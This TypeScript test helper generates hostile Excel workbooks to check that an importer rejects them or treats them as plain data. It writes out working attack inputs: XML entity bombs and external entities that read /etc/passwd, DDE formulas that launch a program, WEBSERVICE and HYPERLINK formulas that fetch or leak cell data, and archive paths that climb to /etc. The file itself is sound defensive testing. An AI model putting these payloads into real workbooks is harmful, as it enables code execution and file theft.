import { gzipSync } from 'node:zlib';
import type { ErrorName } from '../../../src/contract/errors.ts';
import { random } from '../random.ts';
import { archive } from './archive.ts';
import { archiveLies } from './archiveLies.ts';
import { bookOf, type HostileWorkbook, partsOf, paths, sheetOf, textCell, validRows } from './bookOf.ts';
import { sheetTricks } from './sheetTricks.ts';

const whole = bookOf('HWWHOLE');

/** Returns all malicious workbooks, the same in every run. */
export function hostileWorkbooks(): HostileWorkbook[] {
  return [...cutOff(), ...flipped(), ...otherFiles(), ...entities(), ...archiveLies(), ...sheetTricks(), ...inert()];
}

/** Returns workbooks that are cut off at every twentieth of their length. */
function cutOff(): HostileWorkbook[] {
  return Array.from({ length: 19 }, (_, i) => ({
    name: `cut off after ${(i + 1) * 5} %`,
    family: 'cut off',
    make: () => whole.subarray(0, Math.floor((whole.length * (i + 1)) / 20)),
    outcome: 'brokenWorkbook',
  }));
}

/** Returns workbooks in which one bit is flipped. The bit may be in a part that is not read, so an error and an import are both fine. */
function flipped(): HostileWorkbook[] {
  const next = random(11);
  return Array.from({ length: 60 }, (_, i) => {
    const [at, bit] = [Math.floor(next() * whole.length), Math.floor(next() * 8)];
    return {
      name: `bit ${bit} of byte ${at} flipped (${i})`,
      family: 'flipped',
      make: () => {
        const file = Buffer.from(whole);
        file[at] = (file[at] ?? 0) ^ (1 << bit);
        return file;
      },
    };
  });
}

/** Returns files that are named .xlsx but have another format. */
function otherFiles(): HostileWorkbook[] {
  const ole = (rest: Buffer): Buffer => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), rest]);
  const noise = random(5);
  const files: Readonly<Record<string, readonly [Buffer, ErrorName]>> = {
    nothing: [Buffer.alloc(0), 'notWorkbook'],
    'one byte': [Buffer.from('P'), 'notWorkbook'],
    CSV: [Buffer.from('makerCode,makerName\r\nA,B\r\n'), 'textFile'],
    HTML: [Buffer.from('<html><table><tr><td>makerCode</td></tr></table></html>'), 'textFile'],
    PDF: [Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), 'notWorkbook'],
    'XML of Excel 2003': [Buffer.from('<?xml version="1.0"?><Workbook/>'), 'textFile'],
    JSON: [Buffer.from('[{"makerCode":"A"}]'), 'textFile'],
    gzip: [gzipSync(whole), 'notWorkbook'],
    'a program': [Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4_096)]), 'notWorkbook'],
    'an old workbook': [ole(Buffer.from('Workbook', 'utf16le')), 'oldWorkbook'],
    'a workbook with a password': [ole(Buffer.from('EncryptedPackage', 'utf16le')), 'lockedWorkbook'],
    noise: [Buffer.from(Array.from({ length: 20_000 }, () => Math.floor(noise() * 256))), 'notWorkbook'],
    'noise behind the signature': [Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(9_000, 0xa5)]), 'brokenWorkbook'],
    'an archive of something else': [archive([{ name: 'readme.txt', content: 'hello' }]), 'notWorkbook'],
    'an OpenDocument sheet': [archive([{ name: 'content.xml', content: '<office/>' }]), 'notWorkbook'],
    'a Word document': [bookOf('HWDOCX', { [paths.book]: '<w:document xmlns:w="w"><w:body/></w:document>' }), 'notWorkbook'],
    'a binary workbook': [
      bookOf('HWXLSB', {
        [paths.root]: '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="xl/workbook.bin"/></Relationships>',
        'xl/workbook.bin': Buffer.alloc(64, 1),
      }),
      'notWorkbook',
    ],
  };
  return Object.entries(files).map(([name, [file, outcome]]) => ({
    name: `${name} under the name of a workbook`,
    family: name,
    make: () => file,
    outcome,
  }));
}

/** Returns workbooks with document type declarations of all kinds, in every entry that is read. */
function entities(): HostileWorkbook[] {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  const types: Readonly<Record<string, string>> = {
    'a million laughs': `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`,
    'a file of the server': '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    'an address': '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    'an entity of the document type': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>',
  };
  return Object.entries(types).flatMap(([name, type]) =>
    Object.entries(paths).map(
      ([part, path]): HostileWorkbook => ({
        name: `${name} in ${part}`,
        family: `${name} in ${part === 'sheet' || part === 'texts' ? part : 'another part'}`,
        make: () => {
          const { content } = partsOf('HWENT').find((one) => one.name === path) ?? { content: '' };
          const text = String(content).replace(/<\?xml.*\?>\n/, '');
          return bookOf('HWENT', { [path]: `${type}${text}` });
        },
        outcome: 'brokenWorkbook',
      }),
    ),
  );
}

/** Returns workbooks with content that other programs would run, fetch or follow. The product must read it as plain data. */
function inert(): HostileWorkbook[] {
  const formula = (code: string, text: string): Buffer =>
    bookOf(code, {
      [paths.sheet]: sheetOf(
        `${validRows(code)}<row r="3">${textCell('A3', `${code}F`)}<c r="B3" t="str"><f>${text}</f><v>x</v></c></row>`,
      ),
    });
  const files: Readonly<Record<string, (code: string) => Buffer>> = {
    'a formula that fetches': (code) => formula(code, 'WEBSERVICE("http://127.0.0.1:9/")'),
    'a link that leaks': (code) => formula(code, 'HYPERLINK("http://127.0.0.1:9/?"&amp;A1,"x")'),
    'a formula that runs a program': (code) => formula(code, "cmd|' /C calc'!A0"),
    'a text that looks like one': (code) =>
      bookOf(code, { [paths.sheet]: sheetOf(validRows(code).replace('Sound', "=cmd|' /C calc'!A0")) }),
    'a link to another workbook': (code) =>
      bookOf(code, { 'xl/externalLinks/externalLink1.xml': '<externalLink/>', 'xl/connections.xml': '<connections/>' }),
    macros: (code) => bookOf(code, { 'xl/vbaProject.bin': Buffer.alloc(4_096, 7) }),
    'an archive in it': (code) => bookOf(code, { 'xl/media/image1.png': whole }),
    'parts with paths that lead out': (code) => bookOf(code, { '../../../etc/passwd': 'x', '/etc/cron.d/x': 'x', 'C:\\x': 'x' }),
  };
  return Object.entries(files).map(([name, make], i) => ({
    name,
    family: name,
    make: () => make(`HWIN${i}`),
    outcome: 'taken',
  }));
}
